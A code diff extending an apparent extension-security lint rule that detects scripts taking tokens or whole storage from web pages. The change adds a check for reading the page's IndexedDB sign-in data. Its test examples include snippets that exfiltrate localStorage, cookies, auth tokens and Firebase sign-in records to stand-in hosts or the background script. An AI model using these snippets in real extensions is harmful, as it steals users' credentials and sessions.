@@ -3,6 +3,7 @@ import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { expressionsOf, hostOf, mentions, textsOf } from './network.ts';
 import { runsInPages } from './places.ts';
+import { originPaths } from './origins.ts';
 import { leavesBy } from './sendings.ts';
 import { functionOf } from './usage.ts';
 
@@ -30,10 +31,14 @@ export const tokenTakenFromPage = defineRule({
       // The storage of another frame of the page: a site that takes its own away is got around so.
       for (const value of readsNamed(script, 'token', 'access_token', 'accessToken', 'auth_token', 'refresh_token')) if (nameOf(script, script.a[value] as number) === 'localStorage') taken.set(value, 'a token in the page’s storage');
       for (const call of callsOf(script, 'JSON.stringify', 'Object.entries', 'Object.assign')) if (call.args.some((arg) => isWholeStorage(script, arg))) taken.set(call.value, 'everything in the page’s storage');
+      // Sign-ins that sites keep in a database of the browser: a content script sees the page's, never its own.
+      if (callsOf(script, 'indexedDB.open').length > 0) for (const value of readsNamed(script, 'result')) if (originPaths(script, value).has('indexedDB.open')) taken.set(value, 'everything in a database of the page');
       for (const [value, what] of taken) {
         const out = leavesBy(script, new Set([value]), ['network', 'message']);
         if (out?.kind === 'network') yield hit(value, { confidence: 'high', message: `It sends ${what} to ${out.to}.` });
         else if (out?.kind === 'message' && what.startsWith('everything')) yield hit(value, { severity: 'medium', message: `It hands ${what} to the background.` });
+        else continue;
+        if (what.startsWith('everything in a data')) break;
       }
     }
     for (const call of callsOf(script, 'chrome.scripting.executeScript')) {
@@ -62,8 +67,10 @@ export const tokenTakenFromPage = defineRule({
       backgroundExample('chrome.tabs.onUpdated.addListener((tabId, i, tab) => { chrome.scripting.executeScript({ target: { tabId }, func: () => ({ ls: { ...localStorage }, ck: document.cookie }) }).then(([r]) => { fetch("https://x.example/up", { method: "POST", body: JSON.stringify(r.result) }); }); });'),
       contentExample('const f = document.createElement("iframe"); document.head.append(f); const t = f.contentWindow.localStorage.token; if (t) fetch("https://x.example/d", { method: "POST", body: t });'),
       backgroundExample('chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://sorter.example/grant", { method: "POST", body: token }); });'),
+      contentExample('const open = indexedDB.open("firebaseLocalStorageDb"); open.onsuccess = (e) => { const q = e.target.result.transaction("s").objectStore("s").getAll(); q.onsuccess = () => { chrome.runtime.sendMessage({ extra: q.result.map((r) => r.value) }); }; };'),
     ],
     good: [
+      backgroundExample('const open = indexedDB.open("mine"); open.onsuccess = (e) => { const q = e.target.result.transaction("s").objectStore("s").getAll(); q.onsuccess = () => { chrome.runtime.sendMessage({ rows: q.result }); }; };'),
       backgroundExample('chrome.identity.getAuthToken({}, (token) => { fetch("https://www.googleapis.com/calendar/v3/x", { headers: { Authorization: "Bearer " + token } }); }); fetch("https://api.example.com/v");'),
       backgroundExample('chrome.scripting.executeScript({ target: { tabId }, func: () => document.title }).then(([r]) => fetch("https://x.example/t?t=" + r.result)); const all = { ...localStorage };'),
       contentExample('const theme = localStorage.getItem("theme"); fetch("https://x.example/t?theme=" + theme);'),
